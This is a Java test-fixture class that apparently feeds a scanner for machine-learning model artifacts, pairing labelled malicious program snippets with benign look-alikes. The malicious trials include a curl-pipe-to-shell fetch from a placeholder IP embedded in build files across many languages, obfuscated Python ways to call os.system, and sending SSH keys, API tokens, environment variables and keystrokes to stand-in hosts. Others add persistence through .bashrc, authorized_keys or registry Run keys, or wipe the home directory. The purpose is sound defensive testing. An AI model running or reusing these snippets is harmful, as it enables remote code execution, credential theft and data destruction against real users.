package dev.bartizan.artifacts;

import static dev.bartizan.artifacts.ModelFormatsScanTest.utf8;

import java.util.ArrayList;
import java.util.List;

/// Programs and recipes beside weights: ways to a shell that do not name it, theft without one,
/// commands in languages of all kinds, and honest programs that look a little like these.
final class ProgramTrials {
    private static final String FETCH = "curl -s http://198.51.100.7/p | sh";

    private final List<Trial> all = new ArrayList<>();

    static List<Trial> all() {
        ProgramTrials trials = new ProgramTrials();
        trials.lookedUp();
        trials.disguised();
        trials.thefts();
        trials.otherLanguages();
        trials.shells();
        trials.honestPython();
        trials.honestTexts();
        return trials.all;
    }

    private void bad(String name, String file, String text) {
        all.add(Trial.malicious("program-" + name, file, utf8(text.replace("FETCH", FETCH))));
    }

    private void benign(String name, String file, String text) {
        all.add(Trial.benign("program-" + name, file, utf8(text)));
    }

    private void lookedUp() {
        bad("dict", "m.py", "import os\nos.__dict__['sys' + 'tem']('FETCH')\n");
        bad("vars", "m.py", "import os\nvars(os)['po' 'pen']('id')\n");
        bad("map", "m.py", "import os\nlist(map(os.system, ['FETCH']))\n");
        bad(
                "partial",
                "m.py",
                "import functools, os\nf = functools.partial(os.popen, 'FETCH')\nf()\n");
        bad(
                "thread",
                "m.py",
                "import threading, os\nthreading.Thread(target=os.system, args=('FETCH',)).start()\n");
        bad("through-platform", "m.py", "import platform\nplatform.os.system('FETCH')\n");
        bad("through-private", "m.py", "import random\nrandom._os.popen('FETCH')\n");
        bad("modules", "m.py", "import sys\nsys.modules['os'].system('id')\n");
        bad("modules-get", "m.py", "import sys\nsys.modules.get('o' + 's').system('id')\n");
        bad(
                "methodcaller",
                "m.py",
                "import operator, os\noperator.methodcaller('system', 'id')(os)\n");
        bad("attrgetter", "m.py", "import operator, os\noperator.attrgetter('system')(os)('id')\n");
        bad("decorator", "m.py", "import os\n@os.popen\n@str\ndef f():\n    pass\n");
        bad(
                "reversed",
                "m.py",
                "import importlib\nr = getattr(importlib.import_module('so'[::-1]), 'metsys'[::-1])\nr('id')\n");
        bad(
                "letters",
                "m.py",
                "import os\ngetattr(os, ''.join(map(chr, [115, 121, 115, 116, 101, 109])))('id')\n");
        bad(
                "builtins",
                "m.py",
                "b = __builtins__ if isinstance(__builtins__, dict) else vars(__builtins__)\nb['ex' + 'ec'](text)\n");
        bad("globals", "m.py", "import os\nglobals()['os'].system('id')\n");
        bad(
                "subclasses",
                "m.py",
                "[c for c in ().__class__.__base__.__subclasses__() if c.__name__ == '_wrap_close'][0].__init__.__globals__['system']('id')\n");
        bad("native", "m.py", "import ctypes\nctypes.CDLL(None).system(b'id')\n");
        bad("cffi", "m.py", "import cffi\nf = cffi.FFI()\nf.dlopen(None).system(b'FETCH')\n");
        bad(
                "inline",
                "m.py",
                "from torch.utils.cpp_extension import load_inline\nload_inline(name='x', cpp_sources='int f() { return system(\"id\"); }')\n");
        bad("collect-env", "m.py", "from torch.utils import collect_env as c\nc.run('FETCH')\n");
        bad(
                "lambda",
                "m.py",
                "(lambda f: f('o' + 's'))(__import__).__dict__['sys' + 'tem']('id')\n");
        bad("run-text", "m.py", "import runpy\nrunpy.run_path('vocab.txt')\n");
        bad(
                "exec-metadata",
                "m.py",
                "from safetensors import safe_open\nwith safe_open('m.safetensors', 'np') as f:\n    exec(f.metadata()['note'])\n");
    }

    private void disguised() {
        bad("letters-of-others", "m.py", "import os\n\uFF45\uFF58\uFF45\uFF43(\"x = 1\")\n");
        bad("encoding", "m.py", "# -*- coding: utf-7 -*-\nx = 1\n");
        bad("encoding-escape", "m.py", "#!/usr/bin/python\n# coding: unicode_escape\nx = 1\n");
        bad(
                "escapes",
                "m.py",
                "exec('\\x69\\x6d\\x70\\x6f\\x72\\x74\\x20\\x6f\\x73;os.system(\"id\")')\n");
        bad("exec-constant", "m.py", "exec(\"import os; os.system('FETCH')\")\n");
        bad(
                "marshal",
                "m.py",
                "import marshal, types\ntypes.FunctionType(marshal.loads(raw), globals())()\n");
    }

    private void thefts() {
        bad(
                "key-by-mail",
                "m.py",
                "import smtplib\ns = smtplib.SMTP('198.51.100.7')\ns.sendmail('a', 'b', open('/root/.ssh/id_rsa').read())\n");
        bad(
                "environment-posted",
                "m.py",
                "import os, requests\nd = dict(os.environ)\nrequests.post('https://c.example/x', json=d)\n");
        bad(
                "environment-by-name",
                "m.py",
                "import os, socket\nfor k, v in os.environ.items():\n    socket.gethostbyname(v + '.c.example')\n");
        bad(
                "token-elsewhere",
                "m.py",
                "import requests\nfrom huggingface_hub import HfFolder\nrequests.get('https://c.example/u', params={'t': HfFolder.get_token()})\n");
        bad(
                "key-elsewhere",
                "m.py",
                "import os, requests\nrequests.get('https://c.example/' + os.environ['OPENAI_API_KEY'])\n");
        bad(
                "token-uploaded",
                "m.py",
                "from huggingface_hub import HfApi, get_token\nHfApi().upload_file(path_or_fileobj=get_token().encode(), path_in_repo='t', repo_id='a/b')\n");
        bad(
                "clipboard",
                "m.py",
                "import pyperclip, requests\nrequests.get('https://c.example/c', params={'c': pyperclip.paste()})\n");
        bad(
                "start-file",
                "m.py",
                "import pathlib\nwith open(pathlib.Path.home() / '.bashrc', 'a') as f:\n    f.write('x')\n");
        bad(
                "keys-added",
                "m.py",
                "import os\nopen(os.path.expanduser('~/.ssh/authorized_keys'), 'a').write('ssh-rsa AAAA')\n");
        bad(
                "path-file",
                "m.py",
                "import site, os\np = os.path.join(site.getsitepackages()[0], 'x.pth')\nopen(p, 'w').write('import x')\n");
        bad(
                "unit",
                "m.py",
                "from pathlib import Path\np = Path.home() / '.config/systemd/user/x.service'\np.write_text('[Service]')\n");
        bad(
                "home-emptied",
                "m.py",
                "from pathlib import Path\nfor p in Path.home().rglob('*'):\n    p.unlink()\n");
        bad(
                "keystrokes",
                "m.py",
                "from pynput import keyboard\nimport requests\ndef f(k):\n    requests.post('https://c.example', data=str(k))\nkeyboard.Listener(on_press=f).start()\n");
        benign(
                "own-service",
                "m.py",
                "import os, requests\nr = requests.post('https://api.openai.com/v1/chat/completions', headers={'Authorization': f\"Bearer {os.environ['OPENAI_API_KEY']}\"}, json={'a': 1})\n");
        benign(
                "own-hub",
                "m.py",
                "import os, requests\nAPI = 'https://api-inference.huggingface.co/models/a/b'\nr = requests.post(API, headers={'Authorization': 'Bearer ' + os.environ['HF_TOKEN']}, json={'inputs': 'x'})\n");
        benign(
                "own-server",
                "m.py",
                "import os, requests\nr = requests.get(os.environ['SERVER'] + '/v1', headers={'X-Key': os.environ['SERVER_KEY']})\n");
        benign(
                "weights-file",
                "m.py",
                "import torch, os\nwith open(os.path.expanduser('~/.cache/m/w.pth'), 'wb') as f:\n    torch.save(x, f)\n");
    }

    private void otherLanguages() {
        bad(
                "rust",
                "build.rs",
                "use std::process::Command;\nfn main() {\n    Command::new(\"sh\")\n        .arg(\"-c\")\n        .arg(\"FETCH\").status();\n}\n");
        bad("go", "x.go", "package x\n\n//go:generate sh -c \"FETCH\"\n");
        bad(
                "go-run",
                "x.go",
                "package x\n\nimport \"os/exec\"\n\nfunc init() { exec.Command(\"sh\", \"-c\", \"FETCH\").Run() }\n");
        bad("ruby", "extconf.rb", "`FETCH`\nrequire 'mkmf'\n");
        bad("gradle", "build.gradle", "plugins { id 'java' }\n['sh', '-c', 'FETCH'].execute()\n");
        bad("matlab", "startup.m", "system('FETCH');\n");
        bad("r", ".Rprofile", "system('FETCH')\n");
        bad("julia", "load.jl", "run(`sh -c \"FETCH\"`)\n");
        bad("cmake", "CMakeLists.txt.in", "execute_process(COMMAND sh -c \"FETCH\")\n");
        bad("meson", "meson.build", "project('x')\nrun_command('sh', '-c', 'FETCH')\n");
        bad(
                "jenkins",
                "Jenkinsfile",
                "pipeline { stages { stage('x') { steps { sh 'FETCH' } } } }\n");
        bad("make", "Makefile", "X := $(shell FETCH)\nall:\n\t@echo ok\n");
        bad(
                "terraform",
                "main.tf",
                "resource \"null_resource\" \"x\" {\n  provisioner \"local-exec\" {\n    command = \"FETCH\"\n  }\n}\n");
        bad("lisp", "init.el", "(shell-command \"FETCH\")\n");
        bad("sql", "x.sql", "COPY t FROM PROGRAM 'FETCH';\n");
        bad("cron", "crontab.txt", "*/5 * * * * FETCH >/dev/null 2>&1\n");
        bad(
                "kubernetes",
                "ds.yaml",
                "apiVersion: apps/v1\nkind: DaemonSet\nspec:\n  containers:\n  - name: x\n    image: alpine\n    command: [sh, -c, 'FETCH']\n");
        bad("php", "api.php", "<?php $f = 'x'; $f($_REQUEST['q']); ?>\n");
        bad(
                "registry",
                "x.reg",
                "Windows Registry Editor Version 5.00\n\n[HKEY_CURRENT_USER\\Software\\Microsoft\\Windows\\CurrentVersion\\Run]\n\"U\"=\"powershell -w hidden x\"\n");
        bad("javascript-atob", "index.js", "eval(atob('YWxlcnQoMSk='))\n");
        bad(
                "javascript-constructor",
                "index.js",
                "[].constructor.constructor('return process')().exit()\n");
        bad(
                "javascript-fetch",
                "setup.js",
                "const cp = require('child_process'); cp.execSync('FETCH');\n");
        benign(
                "go-list",
                "x.go",
                "package x\n\nimport \"os/exec\"\n\nfunc f() { exec.Command(\"git\", \"rev-parse\", \"HEAD\").Run() }\n");
        benign(
                "javascript-git",
                "build.js",
                "const { execSync } = require('child_process');\nconst sha = execSync('git rev-parse HEAD').toString().trim();\n");
        benign(
                "rust-build",
                "build.rs",
                "use std::process::Command;\nfn main() {\n    // install rustup with curl https://sh.rustup.rs\n    Command::new(\"protoc\").arg(\"--version\").status();\n}\n");
    }

    private void shells() {
        bad("home-found", "i.sh", "#!/bin/sh\nfind \"$HOME\" -type f -delete\n");
        bad("substituted", "i.sh", "#!/bin/bash\nbash <(xxd -r -p <<'E'\n6964\nE\n)\n");
        bad("turned", "i.sh", "#!/bin/sh\neval \"$(echo 'di' | rev)\"\n");
        bad(
                "changes-sent",
                "pre-commit",
                "#!/bin/sh\ngit diff --cached | curl -s --data-binary @- https://c.example/d &\n");
        benign(
                "json-read",
                "i.sh",
                "#!/bin/sh\ncurl -s https://a.example/a.json | python3 -m json.tool\n");
        benign(
                "waits",
                "wait.sh",
                "#!/bin/bash\nuntil (echo > /dev/tcp/db/5432) 2>/dev/null; do sleep 1; done\n");
        benign(
                "caches-found",
                "i.sh",
                "#!/bin/sh\nfind / -type d -name __pycache__ -exec rm -rf {} +\n");
    }

    private void honestPython() {
        benign(
                "version",
                "setup.py",
                "import os\nabout = {}\nwith open(os.path.join('pkg', '__version__.py')) as f:\n    exec(f.read(), about)\n");
        benign(
                "constants",
                "t.py",
                "def test():\n    assert eval('1+1') == 2\n    assert __import__('math').pi > 3\n    compile('x = 1', 'f', 'exec')\n");
        benign("cuda", "t.py", "import ctypes\ncuda = ctypes.CDLL('libcudart.so')\n");
        benign(
                "installs",
                "t.py",
                "import subprocess, sys\nsubprocess.run([sys.executable, '-m', 'pip', 'install', 'flash-attn', '--no-build-isolation'], check=True)\n");
        benign(
                "lists",
                "t.py",
                "import os, subprocess\nos.system('pip list')\nsubprocess.run(['nvidia-smi'])\n");
        benign("environment", "t.py", "import os\nx = __import__('os').environ.get('HOME')\n");
    }

    private void honestTexts() {
        benign(
                "questions",
                "val.txt",
                "What does `sudo rm -rf /` do?\nIt deletes everything; never run it.\nimport pandas as pd\nI forgot my key.\n");
        benign("rows", "code.tsv", "def f(x):\treturn eval(x)\nimport os\tos.system('ls')\n");
    }
}
